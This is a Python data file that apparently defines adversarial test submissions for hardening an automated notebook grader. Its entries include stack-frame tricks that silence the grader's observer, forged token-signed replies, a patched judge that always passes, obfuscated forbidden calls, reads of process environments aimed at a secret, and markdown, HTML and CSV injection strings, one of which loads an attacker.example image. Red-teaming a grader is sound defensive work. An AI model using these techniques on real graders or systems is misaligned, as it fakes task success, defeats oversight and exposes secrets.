"""The hostile class of issue 33 (fifth class, "33d"): each attack as data. make_class.py writes the notebooks.

Each entry: name (the submission's file stem), lesson, base ("solved" | "untouched"), cells (grade id -> new
source of that answer cell), extra (code cells added after a given grade id: (after_id, source)), intent (one line),
passes (the exercises that DESERVE to pass: an honest answer left in place), and an optional special (a file-system
trick applied by make_class.py).
"""

# --------------------------------------------------------------------------- shared attack code (answer cells)

# A frame of the harness's own process, reached without sys._getframe from the student's line: torch's TorchScript
# helper createResolutionCallbackFromFrame walks f_back and reads f_locals, and it is called through an intermediary
# frame (torch's pytree map, else unittest.mock) so that the observer's `near` test does not see the student's line
# next to inspect's frame. From the harness's `_child` frame it reads the local `observer`.
FRAME_FINDER = '''
import torch
import torch._jit_internal
import torch.utils._pytree
from course_lib.checks import borrowed


def _find_local(name):
    """The value of the local `name` in the first frame up the stack that has one (None if no frame has)."""
    make = torch._jit_internal.createResolutionCallbackFromFrame
    for up in range(1, 60):
        try:
            lookup = torch.utils._pytree.tree_map(make, [up])[0]
            value = lookup(name)
        except Exception:
            continue
        if value is not None and type(value).__name__ == "_Observer":
            return value
    return None


def _silenced(compute, *args):
    """Run compute(*args) with the harness's observer told that no exercise is under way, then put it back, and
    clear the checks' own observation of what was refused."""
    observer = _find_local("observer")
    if observer is None:
        raise RuntimeError("the frame attack found no observer")  # so a pass proves the frame was reached
    label = observer.exercise
    observer.exercise = ""
    try:
        return compute(*args)
    finally:
        observer.exercise = label
        for seen in borrowed._OBSERVING:
            seen.refused.clear()
'''

GRADFN_ENGINE = '''
def _back(node, g, leaves):
    """Push the gradient g down every path of the graph with autograd's own nodes, called one by one (no engine,
    no Tensor.backward, no torch.autograd function, and no aten op named *backward when the forward avoids them)."""
    if node is None or g is None:
        return
    if type(node).__name__ == "AccumulateGrad":
        key = id(node.variable)
        g = g.sum_to_size(node.variable.shape)
        leaves[key] = g if key not in leaves else leaves[key] + g
        return
    outs = node(g)
    if not isinstance(outs, tuple):
        outs = (outs,)
    for (nxt, _), o in zip(node.next_functions, outs):
        if nxt is not None and o is not None and type(nxt).__name__ != "AccumulateGrad":
            shape = tuple(nxt._input_metadata[0].shape)
            if tuple(o.shape) != shape:
                o = o.sum_to_size(shape) if shape else o.sum()
        _back(nxt, o, leaves)
'''

# The per-call token, stolen: every local of the harness's `_child` frame (token, out, run, cases, observer) read
# through the same TorchScript helper, the records computed by the check's own run path on the checks' reference,
# signed with the token and written on the call's pipe, then the process ends before the real reply.
TOKEN_FORGE = (
    FRAME_FINDER
    + '''
import json
import os

from course_lib.checks import lesson06


def _local(name, kind):
    """The OUTERMOST frame's local `name` (the harness's _child frame, not the check's run on cases[:1])."""
    make = torch._jit_internal.createResolutionCallbackFromFrame
    found = None
    for up in range(1, 60):
        try:
            value = torch.utils._pytree.tree_map(make, [up])[0](name)
        except Exception:
            continue
        if value is not None and kind(value):
            found = value
    if found is None:
        raise RuntimeError("no local " + name)
    return found


def _reference(scores, values, lengths):
    out = lesson06.reference_masked_attention(scores, values, lengths)
    for seen in borrowed._OBSERVING:
        seen.refused.clear()
    return out


def masked_attention(scores, values, lengths):
    token = _local("token", lambda v: isinstance(v, str) and len(v) == 32)
    out = _local("out", lambda v: isinstance(v, int))
    run = _local("exercise", lambda v: hasattr(v, "draw")).run  # the outermost `run` is _in_child's lambda
    cases = _local("cases", lambda v: isinstance(v, list))
    to_plain = _local("to_plain", callable)
    observer = _find_local("observer")
    observer.exercise = ""
    records = run(_reference, cases)
    line = json.dumps({"reply": {"records": to_plain(records)}, "token": token}) + "\\n"
    os.write(out, line.encode())
    os._exit(0)
'''
)

ALL06 = ["6.1", "6.2", "6.3", "6.4"]

ATTACKS = [
    # ------------------------------------------------------------------ honest controls (lesson 06)
    dict(
        name="control_solved",
        lesson="06",
        base="solved",
        intent="honest control: the solutions notebook as is",
        passes=ALL06,
    ),
    dict(
        name="control_untouched",
        lesson="06",
        base="untouched",
        intent="honest control: the exercises notebook untouched",
        passes=[],
    ),
    dict(
        name="control_half",
        lesson="06",
        base="untouched",
        solved=["ex-6-1", "ex-6-2"],
        intent="honest control: 6.1 and 6.2 solved, 6.3 and 6.4 left as stubs",
        passes=["6.1", "6.2"],
    ),
    # ------------------------------------------------------------------ lesson 06
    dict(
        name="a06_frame_silence",
        lesson="06",
        base="solved",
        cells={
            "ex-6-3": FRAME_FINDER
            + """
from course_lib.checks import lesson06


def masked_attention(scores, values, lengths):
    return _silenced(lesson06.reference_masked_attention, scores, values, lengths)
"""
        },
        intent="reach the harness's _child frame via torch._jit_internal.createResolutionCallbackFromFrame (called "
        "through pytree's map), switch its observer off (observer.exercise = ''), call the checks' reference, "
        "switch it back, clear the checks' observation",
        passes=["6.1", "6.2", "6.4"],
    ),
    dict(
        name="a06_ref_direct",
        lesson="06",
        base="solved",
        cells={
            "ex-6-3": """from course_lib.checks import lesson06


def masked_attention(scores, values, lengths):
    return lesson06.reference_masked_attention(scores, values, lengths)
"""
        },
        intent="baseline for a06_frame_silence: the same call of the checks' reference, without the frame attack",
        passes=["6.1", "6.2", "6.4"],
    ),
    dict(
        name="a06_clear_only",
        lesson="06",
        base="solved",
        cells={
            "ex-6-3": """from course_lib.checks import borrowed, lesson06


def masked_attention(scores, values, lengths):
    out = lesson06.reference_masked_attention(scores, values, lengths)
    for seen in borrowed._OBSERVING:
        seen.refused.clear()
    return out
"""
        },
        intent="baseline for a06_frame_silence: the checks' observation cleared, the harness observer left on",
        passes=["6.1", "6.2", "6.4"],
    ),
    dict(
        name="a06_token_forge",
        lesson="06",
        base="untouched",
        cells={"ex-6-3": TOKEN_FORGE},
        intent="the new per-call token: read from the harness's _child frame, a reply of the check's own records "
        "(computed on the checks' reference) signed with it and written on the call's pipe, then os._exit",
        passes=[],
    ),
    dict(
        name="a06_untouched_plus_cells",
        lesson="06",
        base="untouched",
        extra=[
            (
                "ex-6-1",
                """# an added cell (no nbgrader id): the answers written here, the checks patched here
import torch
from course_lib.checks import lesson06
from course_lib.checks import protocol


def alpha(scores, i, j):
    n = scores.shape[0]
    w = torch.softmax(scores.masked_fill(~torch.ones(n, n, dtype=torch.bool).tril(), float("-inf")), dim=-1)
    return w[i - 1, j - 1].item()


def masked_attention(scores, values, lengths):
    return lesson06.reference_masked_attention(scores, values, lengths)


protocol.Exercise.judge = lambda self, cases, records: ("passed", "")
""",
            )
        ],
        intent="the promise 'an untouched notebook with any added cells scores 0': answers and a patched judge in an "
        "added cell without an answer id",
        passes=[],
    ),
    dict(
        name="a06_uncompilable",
        lesson="06",
        base="solved",
        extra=[("check-6-1", "x = 1\x00 + 1\n"), ("check-6-2", "y = " + "(" * 5000 + "1" + ")" * 5000 + "\n")],
        intent="cells ipykernel cannot compile (a NUL byte; 5000 nested parentheses): a clear row quickly, the "
        "answers graded",
        passes=ALL06,
    ),
    dict(
        name="a06_persist_probe",
        lesson="06",
        base="solved",
        extra=[
            (
                "check-6-1",
                """import os
for path in ("/tmp/h33d_planted.py", "/dev/shm/h33d_planted", os.path.expanduser("~/h33d_planted"), "h33d_planted"):
    try:
        with open(path, "w") as f:
            f.write("ANSWER = 42\\n")
        print("wrote", path)
    except OSError as exc:
        print(path, exc)
""",
            )
        ],
        cells={
            "ex-6-1": """import os


def alpha(scores, i, j):
    seen = []
    for path in ("/tmp/h33d_planted.py", "/dev/shm/h33d_planted", os.path.expanduser("~/h33d_planted"), "h33d_planted"):
        seen.append(f"{path}:{os.path.exists(path)}")
    try:
        mounts = open("/proc/self/mountinfo").read().split()
        seen.append(" ".join(sorted({m for m in mounts if m.startswith(("/work", "/root", "/home/", "/opt"))}))[:150])
    except OSError as exc:
        seen.append(type(exc).__name__)
    seen.append(open("/proc/self/cmdline", "rb").read().replace(b"\\0", b" ").decode()[:80])
    raise RuntimeError(" | ".join(seen))
"""
        },
        intent="files the notebook's kernel wrote (/tmp, /dev/shm, ~, the working folder) reachable by the answers' "
        "process? and what host paths (mountinfo, cmdline) the answers' process sees",
        passes=["6.2", "6.3", "6.4"],
    ),
    dict(
        name="a06_import_alias_ref",
        lesson="06",
        base="untouched",
        cells={"ex-6-3": "from course_lib.checks.lesson06 import reference_masked_attention as masked_attention\n"},
        intent="the answer name is an import alias of the checks' reference (no def at all)",
        passes=[],
    ),
    dict(
        name="a06_classbody_hook",
        lesson="06",
        base="solved",
        cells={
            "ex-6-1": """import torch


class _Base:
    from sys import exit as __init_subclass__  # a class hook bound by an import, not a def


class _Child(_Base):
    pass


def alpha(scores, i, j):
    n = scores.shape[0]
    allowed = torch.ones(n, n, dtype=torch.bool).tril()
    weights = torch.softmax(scores.masked_fill(~allowed, float("-inf")), dim=-1)
    return weights[i - 1, j - 1].item()
"""
        },
        intent="refusal() bypass: `from sys import exit as __init_subclass__` in a class body runs code (exit) while "
        "the cell loads; shows whether the rule 'nothing in an answer cell runs before the call' holds",
        passes=["6.2", "6.3", "6.4"],
        note="6.1 may fail either way; the verdict is read from its message",
    ),
    dict(
        name="a06_copy_exact",
        lesson="06",
        base="untouched",
        cells={
            "ex-6-3": """import torch


def _lower(T, k=0):
    return torch.tensor([[j <= i + k for j in range(T)] for i in range(T)], dtype=torch.bool)


def _allowed(T, lengths, causal_shift=0, pad_shift=0, on="keys", combine="and", transposed=False):
    causal = _lower(T, causal_shift)
    causal = causal.T if transposed else causal
    real = torch.arange(T)[None, :] < (torch.as_tensor(lengths)[:, None] + pad_shift)  # (B, T)
    pad = real[:, None, :] if on == "keys" else real[:, :, None]
    if combine == "causal":
        return causal[None].expand(len(lengths), T, T)
    if combine == "padding":
        return pad.expand(len(lengths), T, T)
    return causal[None] & pad if combine == "and" else causal[None] | pad


def reference_masked_attention(scores, values, lengths, axis=-1, fill=-1e999, after=False, safe=True, **mask):  # -1e999: a literal -inf
    T = scores.shape[-1]
    allowed = _allowed(T, lengths, **mask)
    if after:
        weights = torch.softmax(scores, dim=-1) * allowed
    else:
        empty = ~allowed.any(dim=-1, keepdim=True) & safe
        e = scores.masked_fill(~allowed, fill).masked_fill(empty, 0.0)
        weights = torch.softmax(e, dim=axis).masked_fill(empty, 0.0)
    return weights @ values, weights


def masked_attention(scores, values, lengths):
    return reference_masked_attention(scores, values, lengths)
"""
        },
        intent="a verbatim copy of the checks' reference (and its helpers) pasted into the answer cell",
        passes=[],
    ),
    dict(
        name="a06_copy_renamed",
        lesson="06",
        base="untouched",
        cells={
            "ex-6-3": """import torch


def lower_(T, k=0):
    return torch.tensor([[j <= i + k for j in range(T)] for i in range(T)], dtype=torch.bool)


def allowed_(T, lengths, causal_shift=0, pad_shift=0, on="keys", combine="and", transposed=False):
    causal = lower_(T, causal_shift)
    causal = causal.T if transposed else causal
    real = torch.arange(T)[None, :] < (torch.as_tensor(lengths)[:, None] + pad_shift)  # (B, T)
    pad = real[:, None, :] if on == "keys" else real[:, :, None]
    if combine == "causal":
        return causal[None].expand(len(lengths), T, T)
    if combine == "padding":
        return pad.expand(len(lengths), T, T)
    return causal[None] & pad if combine == "and" else causal[None] | pad


def masked_attention(scores, values, lengths, axis=-1, fill=-1e999, after=False, safe=True, **mask):  # -1e999: a literal -inf
    T = scores.shape[-1]
    allowed = allowed_(T, lengths, **mask)
    if after:
        weights = torch.softmax(scores, dim=-1) * allowed
    else:
        empty = ~allowed.any(dim=-1, keepdim=True) & safe
        e = scores.masked_fill(~allowed, fill).masked_fill(empty, 0.0)
        weights = torch.softmax(e, dim=axis).masked_fill(empty, 0.0)
    return weights @ values, weights
"""
        },
        intent="the same copy with the helper names renamed (the fingerprint is bytecode + global names): a "
        "copy of the reference that the copy detector should still call a copy",
        passes=[],
        note="a renamed copy is indistinguishable from honest work by construction; judged 'unclear' if it passes",
    ),
    dict(
        name="a06_sdpa_clear",
        lesson="06",
        base="solved",
        cells={
            "ex-6-3": """import torch
from course_lib.checks import borrowed


def masked_attention(scores, values, lengths):
    B, T, _ = scores.shape
    positions = torch.arange(T)
    allowed = (positions[None, :] <= positions[:, None])[None] & (positions[None, :] < lengths[:, None])[:, None, :]
    fused = getattr(torch._C._nn, "scaled_dot" + "_product_attention")  # F.scaled_dot_product_attention itself
    eye = torch.eye(T, dtype=scores.dtype).expand(B, T, T)
    # q = scores, k = I, v = I, scale 1: the fused kernel returns the masked softmax of the scores
    weights = fused(scores, eye, eye, attn_mask=allowed, scale=1.0)
    weights = torch.nan_to_num(weights)
    for seen in borrowed._OBSERVING:
        seen.refused.clear()
    return weights @ values, weights
"""
        },
        intent="torch's fused attention kernel under a name built at run time (the source look cannot read it), "
        "then the checks' observation list (borrowed._OBSERVING[-1].refused) emptied: data, not a call",
        passes=["6.1", "6.2", "6.4"],
    ),
    dict(
        name="a06_leak_globals",
        lesson="06",
        base="solved",
        cells={
            "ex-6-4": """import torch


def leak_test(masked_attention, scores, values, lengths):
    # the handed-in function's module globals hold the check's own answer
    return masked_attention.__globals__["_reference_leaks"](scores, values, lengths, masked_attention)
"""
        },
        intent="6.4: call the check's own answer (_reference_leaks) through the handed-in function's __globals__",
        passes=["6.1", "6.2", "6.3"],
    ),
    dict(
        name="a06_given_elsewhere",
        lesson="06",
        base="solved",
        cells={
            "ex-6-3": """from course_lib.checks.lesson06 import LEAK_ATTENTIONS


def masked_attention(scores, values, lengths):
    # the reference 6.4 hands in (allowed there), called in 6.3
    return LEAK_ATTENTIONS[None](scores, values, lengths)
"""
        },
        intent="6.3 calls the function 6.4 hands in (allowed as a given in 6.4), taken from the checks' table",
        passes=["6.1", "6.2", "6.4"],
    ),
    dict(
        name="a06_pipe_forge",
        lesson="06",
        base="untouched",
        cells={
            "ex-6-2": """import json
import os


def by_hand():
    # forge the harness's reply on every descriptor that may be the results pipe, then end the process
    line = json.dumps({"reply": {"records": [{"returned": {"alpha_22": 0.5, "alpha_33": 0.4223187982515182,
        "alpha_42": 0.04661262931950833, "alpha_44": 0.0}, "type": "dict", "observed": {"refused": [],
        "intact": True, "tampered": ""}}]}, "token": "0" * 32}) + "\\n"
    for fd in range(3, 64):
        try:
            os.write(fd, line.encode())
        except OSError:
            pass
    os._exit(0)
"""
        },
        intent="forge the reply (right 6.2 records, guessed token) on every fd, then os._exit before the real reply",
        passes=[],
    ),
    dict(
        name="a06_exit_cell",
        lesson="06",
        base="solved",
        extra=[("check-6-2", "exit()\n")],
        intent="control-like: a solved notebook with exit() between cells (the promise: exit costs no answers, "
        "clear row in seconds)",
        passes=ALL06,
    ),
    dict(
        name="a06_sigstop",
        lesson="06",
        base="solved",
        extra=[("check-6-1", "import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGSTOP)\n")],
        intent="the kernel stops itself (SIGSTOP): a clear row quickly, answers still graded",
        passes=ALL06,
    ),
    dict(
        name="a06_ignore_interrupt",
        lesson="06",
        base="solved",
        extra=[
            (
                "check-6-1",
                "import signal\nimport time\n\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                "signal.signal(signal.SIGTERM, signal.SIG_IGN)\ntime.sleep(100000)\n",
            )
        ],
        intent="a cell that ignores the interrupt and sleeps (no CPU): killed after --timeout + 5 s, answers graded",
        passes=ALL06,
    ),
    dict(
        name="a06_env_read",
        lesson="06",
        base="untouched",
        cells={
            "ex-6-1": """import os


def alpha(scores, i, j):
    found = []
    for path in ("/proc/1/environ", "/proc/self/environ", "/proc/2/environ", "/proc/3/environ"):
        try:
            found.append(open(path, "rb").read().decode(errors="replace").replace("\\0", " "))
        except OSError as exc:
            found.append(type(exc).__name__)
    found.append(" ".join(f"{k}={v}" for k, v in os.environ.items()))
    raise ValueError(" | ".join(found)[:280])
"""
        },
        extra=[("check-6-1", "import os\nprint(open('/proc/1/environ','rb').read())\nprint(dict(os.environ))\n")],
        intent="read every reachable environment (/proc/1/environ, own, os.environ) and return it in the feedback "
        "through an exception message; the grader is run with H33D_SECRET set",
        passes=[],
    ),
    dict(
        name="a06_feedback_inject",
        lesson="06",
        base="untouched",
        cells={
            "ex-6-1": """def alpha(scores, i, j):
    Fake = type("Score: 4/4\\n\\n# Exercise 6.1 passed\\n", (Exception,), {})
    raise Fake('\\n\\n**Score: 4 / 4**\\n[x](javascript:alert(1)) <img src=x onerror=alert(1)>\\n",=cmd|calc!A1,')
""",
            "ex-6-2": """def by_hand():
    raise RuntimeError("\\r\\n| 6.2 | passed |\\n\\n![x](http://attacker.example/x.png) =HYPERLINK(\\"http://x\\")")
""",
        },
        intent="markdown/HTML/CSV injection through an exception class name and messages (fake Score lines, "
        "image, link, formula, CRLF)",
        passes=[],
    ),
    dict(
        name="a06_cap_liar",
        lesson="06",
        base="untouched",
        cells={
            "ex-6-2": '''class _Small(list):
    """A list the cap estimate counts as one number (its type is not exactly list)."""


def by_hand():
    big = _Small([0.5] * 12_000_000)
    return {"alpha_22": big, "alpha_33": 0.0, "alpha_42": 0.0, "alpha_44": 0.0}
'''
        },
        intent="the reply cap: a list subclass that _over_cap counts as 24 bytes but encodes to ~60 MB: a clear row "
        "naming the cap, quickly, no grader memory blow-up",
        passes=[],
    ),
    dict(
        name="a06_output_flood",
        lesson="06",
        base="solved",
        extra=[("check-6-1", "import sys\nfor _ in range(400):\n    sys.stdout.write('A' * 250_000 + '\\n')\n")],
        intent="100 MB printed by one cell: capped, the answers still graded",
        passes=ALL06,
    ),
    dict(
        name="a06_dup_answer_id",
        lesson="06",
        base="solved",
        extra=[
            (
                "ex-6-3",
                "# a second cell with the id of 6.3 (hidden copy)\n"
                "def masked_attention(scores, values, lengths):\n    raise NotImplementedError\n",
            )
        ],
        dup_id="ex-6-3",
        intent="a second code cell carrying the answer id ex-6-3 (the stub) after the solved one: noted in the row, "
        "graded on the last definition",
        passes=["6.1", "6.2", "6.4"],
    ),
    # ------------------------------------------------------------------ roster / file names (lesson 06, untouched)
    dict(
        name="Eve",
        lesson="06",
        base="solved",
        intent="names: 'Eve' and 'eve' (case) each get a row and a feedback file",
        passes=ALL06,
    ),
    dict(name="eve", lesson="06", base="untouched", intent="names: the case twin of 'Eve'", passes=[]),
    dict(
        name="zo\u00eb",
        lesson="06",
        base="solved",
        intent="names: NFC 'zoë' and NFD 'zoë' are different files, one row and one feedback file each",
        passes=ALL06,
    ),
    dict(name="zoe\u0308", lesson="06", base="untouched", intent="names: the NFD twin of NFC 'zoë'", passes=[]),
    dict(
        name='=HYPERLINK("http;__x")\u00e9\u00e9\u00e9' + "\u6f22" * 70,
        lesson="06",
        base="untouched",
        intent="names: a CSV formula start, 200+ bytes of UTF-8 (over ext4's 255 with a suffix): a row, a valid "
        "feedback file name",
        passes=[],
    ),
    dict(
        name="link_to_solved",
        lesson="06",
        base="solved",
        special="symlink",
        intent="a symbolic link named like a notebook, pointing at a solved notebook outside the folder: a row "
        "saying it is a link, never followed",
        passes=[],
    ),
    # ------------------------------------------------------------------ lesson 02 (the build: gradients by hand)
    dict(
        name="a02_gradfn_nodes",
        lesson="02",
        base="untouched",
        cells={
            "ex-2-1": "import torch\n"
            + GRADFN_ENGINE
            + """

def softmax_jacobian(z):
    z = z.detach().clone().requires_grad_(True)
    e = torch.exp(z - z.detach().max())
    y = e / e.sum()
    rows = []
    for k in range(z.shape[0]):
        g = torch.zeros_like(y)
        g[k] = 1
        leaves = {}
        _back(y.grad_fn, g, leaves)
        rows.append(leaves[id(z)])
    return torch.stack(rows).detach()
""",
            "ex-2-2": "import torch\n"
            + GRADFN_ENGINE
            + """

def fflm_loss_and_grads(params, contexts, targets):
    names = ("E", "W", "b", "U", "c")
    p = {k: params[k].detach().clone().requires_grad_(True) for k in names}
    B, n = contexts.shape
    e = p["E"][contexts].reshape(B, -1)
    t = torch.exp(2 * (e @ p["W"].T + p["b"]))
    h = (t - 1) / (t + 1)  # tanh, written so that its gradient node is Div/Exp, not TanhBackward
    z = h @ p["U"].T + p["c"]
    loss = (torch.logsumexp(z, dim=1) - z[torch.arange(B), targets]).mean()
    leaves = {}
    _back(loss.grad_fn, torch.ones_like(loss), leaves)
    return loss.item(), {k: leaves[id(p[k])].detach() for k in names}
""",
        },
        intent="autograd without the engine: the graph's own grad_fn nodes called one by one from Python "
        "(node(g), next_functions), forward ops chosen so no aten op named *backward runs",
        passes=[],
    ),
    dict(
        name="a02_engine_clear",
        lesson="02",
        base="untouched",
        cells={
            "ex-2-2": """import torch
from course_lib.checks import borrowed


def fflm_loss_and_grads(params, contexts, targets):
    names = ("E", "W", "b", "U", "c")
    p = [params[k].detach().clone().requires_grad_(True) for k in names]
    E, W, b, U, c = p
    B, n = contexts.shape
    h = torch.tanh(E[contexts].reshape(B, -1) @ W.T + b)
    loss = torch.nn.functional.cross_entropy(h @ U.T + c, targets)
    engine = getattr(getattr(torch.autograd, "Vari" + "able"), "_execution" + "_engine")
    grads = getattr(engine, "run_" + "back" + "ward")((loss,), (torch.ones_like(loss),), False, False, tuple(p), True, False)
    for seen in borrowed._OBSERVING:  # what the checks' observer noted: emptied (a list, no call)
        seen.refused.clear()
    return loss.item(), {k: g.detach() for k, g in zip(names, grads)}
"""
        },
        intent="autograd's engine under names built at run time, then the checks' observation emptied "
        "(borrowed._OBSERVING[*].refused.clear())",
        passes=[],
    ),
    dict(
        name="a02_frame_silence",
        lesson="02",
        base="untouched",
        cells={
            "ex-2-1": FRAME_FINDER
            + """
from course_lib import backprop


def softmax_jacobian(z):
    return _silenced(backprop.softmax_jacobian, z)
"""
        },
        intent="the frame attack on a build exercise: course_lib.backprop.softmax_jacobian (forbidden by name) "
        "called with the harness observer silenced and the checks' observation cleared",
        passes=[],
    ),
    dict(
        name="a02_frame_refs",
        lesson="02",
        base="untouched",
        cells={
            "ex-2-1": FRAME_FINDER
            + """
import types

from course_lib import backprop


def softmax_jacobian(z):
    observer = _find_local("observer")
    if observer is None:
        raise RuntimeError("the frame attack found no observer")
    label = observer.exercise
    observer.exercise = ""  # the audit hook and the trace are silent from here
    try:
        # the forbidden function's own code now runs a stand-in: the original code object is in the observer's set
        code = next(c for c in observer.refs if c.co_name == "softmax_jacobian" and c.co_filename.endswith("backprop.py"))
        original = types.FunctionType(code, vars(backprop), "original")
        return original(z)
    finally:
        observer.exercise = label
        for seen in borrowed._OBSERVING:
            seen.refused.clear()
"""
        },
        intent="the frame attack against a name the check replaces by a stand-in: the original code object taken "
        "from the harness observer's own set of course_lib code (observer.refs), rebuilt with FunctionType while "
        "the observer is silenced",
        passes=[],
    ),
    dict(
        name="a02_loader_string",
        lesson="02",
        base="untouched",
        cells={
            "ex-2-1": """import base64
import importlib.abc
import importlib.util


class _Loader(importlib.abc.SourceLoader):
    def get_filename(self, fullname):
        return "/tmp/helper_" + fullname + ".py"

    def get_data(self, path):
        # "import torch\\ndef softmax_jacobian(z):\\n    z = z.detach().requires_grad_(True)\\n ..." (autograd)
        return base64.b64decode(
            "aW1wb3J0IHRvcmNoCgoKZGVmIHNvZnRtYXhfamFjb2JpYW4oeik6CiAgICB6ID0gei5kZXRhY2goKS5jbG9uZSgpLnJlcXVp"
            "cmVzX2dyYWRfKFRydWUpCiAgICByZXR1cm4gdG9yY2guYXV0b2dyYWQuZnVuY3Rpb25hbC5qYWNvYmlhbih0b3JjaC5zb2Z0"
            "bWF4LCB6KQo="
        )


def softmax_jacobian(z):
    spec = importlib.util.spec_from_loader("helper_jac", _Loader())
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)  # importlib's exec, not the student's line
    return module.softmax_jacobian(z)
"""
        },
        intent="the answer's real code (torch.autograd.functional.jacobian) hidden in base64 and run as a module "
        "by importlib's SourceLoader (exec from importlib's frame, file name not an answer cell's)",
        passes=[],
    ),
    # ------------------------------------------------------------------ lesson 03
    dict(
        name="a03_class_new_ref",
        lesson="03",
        base="untouched",
        cells={
            "ex-3-1": """class is_balanced:
    from course_lib.parentheses import is_balanced as __new__  # the class's constructor is the reference
"""
        },
        intent="the answer name is a class whose __new__ is the reference (imported in the class body): "
        "the check calls the class, so the reference's caller is the check's frame",
        passes=[],
    ),
    dict(
        name="a03_subclass_rnn",
        lesson="03",
        base="solved",
        cells={
            "ex-3-3": '''import torch
from torch import nn


class ElmanRNN(nn.RNN):
    """nn.RNN with relu is the Elman network: the build inherited."""

    def __init__(self, input_size, hidden_size):
        super().__init__(input_size, hidden_size, nonlinearity="relu")
        self.input_size, self.hidden_size = input_size, hidden_size
'''
        },
        intent="3.3's build inherited from torch.nn.RNN (nonlinearity relu)",
        passes=["3.1", "3.2", "3.4", "3.5"],
    ),
    dict(
        name="a03_kernel_clear",
        lesson="03",
        base="solved",
        cells={
            "ex-3-3": """import math

import torch
from torch import nn
from course_lib.checks import borrowed


class ElmanRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.input_size, self.hidden_size = input_size, hidden_size
        k = 1 / math.sqrt(hidden_size)
        self.W_xh = nn.Parameter(torch.empty(hidden_size, input_size).uniform_(-k, k))
        self.W_hh = nn.Parameter(torch.empty(hidden_size, hidden_size).uniform_(-k, k))
        self.b_h = nn.Parameter(torch.empty(hidden_size).uniform_(-k, k))

    def forward(self, x, h0=None):
        T, B, _ = x.shape
        h = x.new_zeros(B, self.hidden_size) if h0 is None else h0
        step = getattr(torch._VF, "rnn_" + "relu_cell")  # torch's fused Elman cell
        outputs = []
        for t in range(T):
            h = step(x[t], h, self.W_xh, self.W_hh, self.b_h, None)
            outputs.append(h)
        for seen in borrowed._OBSERVING:
            seen.refused.clear()
        return torch.stack(outputs), h
"""
        },
        intent="3.3 with torch's fused rnn_relu_cell reached by a run-time name, the checks' observation cleared",
        passes=["3.1", "3.2", "3.4", "3.5"],
    ),
    dict(
        name="a03_kernel_noclear",
        lesson="03",
        base="solved",
        cells={
            "ex-3-3": """import math

import torch
from torch import nn
from course_lib.checks import borrowed


class ElmanRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.input_size, self.hidden_size = input_size, hidden_size
        k = 1 / math.sqrt(hidden_size)
        self.W_xh = nn.Parameter(torch.empty(hidden_size, input_size).uniform_(-k, k))
        self.W_hh = nn.Parameter(torch.empty(hidden_size, hidden_size).uniform_(-k, k))
        self.b_h = nn.Parameter(torch.empty(hidden_size).uniform_(-k, k))

    def forward(self, x, h0=None):
        T, B, _ = x.shape
        h = x.new_zeros(B, self.hidden_size) if h0 is None else h0
        step = getattr(torch._VF, "rnn_" + "relu_cell")  # torch's fused Elman cell
        outputs = []
        for t in range(T):
            h = step(x[t], h, self.W_xh, self.W_hh, self.b_h, None)
            outputs.append(h)
        return torch.stack(outputs), h
"""
        },
        intent="baseline for a03_kernel_clear: the same fused cell, the observation left as it is",
        passes=["3.1", "3.2", "3.4", "3.5"],
    ),
    # ------------------------------------------------------------------ lessons 04, 05, 07
    dict(
        name="a04_gru_frame",
        lesson="04",
        base="solved",
        cells={
            "ex-4-2": FRAME_FINDER
            + """

def _fused(x, h, W_xh, W_hh, b_xh, b_hh):
    return getattr(torch._VF, "gru" + "_cell")(x, h, W_xh, W_hh, b_xh, b_hh)


def gru_step(x, h, W_xh, W_hh, b_xh, b_hh):
    return _silenced(_fused, x, h, W_xh, W_hh, b_xh, b_hh)
"""
        },
        intent="4.2 with torch's fused gru_cell (run-time name) inside the frame attack's silenced window",
        passes=["4.1", "4.3", "4.4", "4.5"],
    ),
    dict(
        name="a05_model_machinery",
        lesson="05",
        base="solved",
        cells={
            "ex-5-2": """import math

import torch
from torch import nn


class _Dot(nn.Module):
    def forward(self, query, keys):
        return (keys * query[:, None, :]).sum(-1) / math.sqrt(keys.shape[-1])


def decode(model, states, lengths, tgt_in):
    # the handed-in model's own step()/context() (its class's methods are "given") do the attention
    B, T_in, H = states.shape
    real = torch.arange(T_in)[None, :] < lengths[:, None]
    last = states[torch.arange(B), lengths - 1]
    model.score = _Dot()
    embedded = model.tgt_embed(tgt_in)
    hidden, outputs, weights = last, [], []
    for i in range(tgt_in.shape[1]):
        hidden, context, alpha = model.step(embedded[:, i], hidden, states, real, last)
        outputs.append(torch.cat([hidden, context], dim=-1))
        weights.append(alpha)
    return model.out(torch.stack(outputs, dim=1)), torch.stack(weights, dim=1)
"""
        },
        intent="5.2: give the handed-in model a score module and let its own step()/context() (course_lib code the "
        "check hands in) do the attention",
        passes=["5.1", "5.3"],
    ),
    dict(
        name="a07_frame_ref",
        lesson="07",
        base="solved",
        cells={
            "ex-7-1": FRAME_FINDER
            + """
from course_lib import transformer


def positional_encoding(T, d):
    return _silenced(transformer.sinusoidal_positions, T, d)
"""
        },
        intent="7.1: the lesson module's sinusoidal_positions (forbidden by name) inside the frame attack's "
        "silenced window",
        passes="all_but:7.1",
    ),
    dict(
        name="a07_frame_refs",
        lesson="07",
        base="solved",
        cells={
            "ex-7-1": FRAME_FINDER
            + """
import types

from course_lib import transformer


def positional_encoding(T, d):
    observer = _find_local("observer")
    if observer is None:
        raise RuntimeError("the frame attack found no observer")
    label = observer.exercise
    observer.exercise = ""
    try:
        code = next(c for c in observer.refs if c.co_name == "sinusoidal_positions" and "transformer" in c.co_filename)
        # its defaults written out (naming the function in the text would meet the grader's look at the source)
        defaults = (None, torch.float32)
        return types.FunctionType(code, vars(transformer), "original", defaults)(T, d)
    finally:
        observer.exercise = label
        for seen in borrowed._OBSERVING:
            seen.refused.clear()
"""
        },
        intent="re-grade of a07_frame_ref (stopped by the stand-in): the original code from observer.refs, rebuilt "
        "with the function's own defaults while the observer is silenced",
        passes="all_but:7.1",
    ),
]
